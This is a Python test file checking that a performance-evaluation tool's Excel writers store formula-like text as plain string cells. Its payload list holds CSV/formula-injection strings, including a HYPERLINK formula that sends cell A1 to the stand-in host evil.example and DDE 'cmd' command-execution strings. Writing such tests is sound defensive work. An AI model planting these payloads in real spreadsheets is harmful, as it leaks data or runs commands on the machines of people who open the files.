"""Excel formula injection (issue 11 #9): every text cell of every workbook we write is a
string cell, never a formula — tested with the OWASP CSV-injection prefixes — and a
genuine target such as ``=100%`` reads back as written."""

from __future__ import annotations

import io
import json
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from jixiao.core.model import Plan, SelfEvaluation
from jixiao.core.monitoring import MonitorSettings, compute_monitor
from jixiao.core.monitoring.workbook import write_monitor_xlsx
from jixiao.core.readers import read_bytes, read_document
from jixiao.core.writers.cells import FORMULA_START, put_value, safe_text
from jixiao.core.writers.excel_plan import write_plan_workbook
from jixiao.core.writers.excel_selfeval import write_selfeval_xlsx
from tests.core.monitoring_support import sample_plan

FIXTURE = Path(__file__).resolve().parents[2] / "src/jixiao/web/demo/julu-2024-zhengfawei.plan.json"
DATA = Path(__file__).resolve().parent.parent / "data"

# The OWASP CSV-injection starts (=, +, -, @, tab, CR) as attackers and users write them.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "=100%",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _plan_with(payload: str) -> Plan:
    plan = Plan.from_dict(json.loads(FIXTURE.read_text(encoding="utf-8")))
    project = plan.projects[0]
    project.name = project.code = project.purpose = payload
    project.goals = [payload]
    for ind in project.indicators:
        ind.level2 = ind.name = ind.description = ind.target = ind.basis = payload
    plan.department.name = payload
    return plan


def _assert_no_formula(data: bytes) -> list[str]:
    """No cell of the file is a formula (in the XML itself and as openpyxl sees it);
    every string that starts like one carries the quote prefix. Returns the strings."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>]", zf.read(name)), name
    wb = load_workbook(io.BytesIO(data))
    texts: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    return texts


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_plan_workbook_writes_formula_text_as_text_and_reads_it_back(payload: str) -> None:
    data = write_plan_workbook(_plan_with(payload))
    assert payload in _assert_no_formula(data)
    plan = read_bytes(data, "plan.xlsx").document
    assert isinstance(plan, Plan)
    ind = plan.projects[0].indicators[0]
    # The readers strip surrounding white space (a leading tab or CR), nothing else.
    assert ind.name == ind.target == payload.strip()
    assert plan.projects[0].name == payload.strip()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_selfeval_workbook_writes_formula_text_as_text(payload: str) -> None:
    doc = read_document(DATA / "selfeval-formulas.yaml").document
    assert isinstance(doc, SelfEvaluation)
    doc.project.name = doc.project.supervisor = doc.project.implementer = payload
    for ind in doc.indicators:
        ind.name = ind.target = ind.actual = ind.reason = payload
    out = io.BytesIO()
    write_selfeval_xlsx(doc, None, out, scores="published")
    assert payload in _assert_no_formula(out.getvalue())
    back = read_bytes(out.getvalue(), "selfeval.xlsx").document
    assert isinstance(back, SelfEvaluation)
    assert back.indicators[0].target == payload.strip()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_monitoring_workbook_writes_formula_text_as_text(payload: str) -> None:
    plan = sample_plan()
    plan.department.name = payload
    for project in plan.projects:
        project.name = payload
        for ind in project.indicators:
            ind.name = ind.target = payload
    report = compute_monitor(plan, date(2024, 8, 31), [], None, MonitorSettings())
    out = io.BytesIO()
    write_monitor_xlsx(report, plan, out)
    texts = _assert_no_formula(out.getvalue())
    assert any(payload in t for t in texts)


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from([*FORMULA_START, ""]),
    st.text(st.characters(codec="utf-8"), max_size=20),
)
def test_any_text_is_stored_as_a_string_cell(start: str, rest: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    put_value(ws["A1"], start + rest)
    put_value(ws["A2"], Decimal("96.00"), number_format="0.00")
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue()))
    cell = back.active["A1"]  # type: ignore[index]
    assert cell.data_type != "f"
    assert (cell.value or "") == safe_text(start + rest)
    assert back.active["A2"].value == 96  # type: ignore[index]
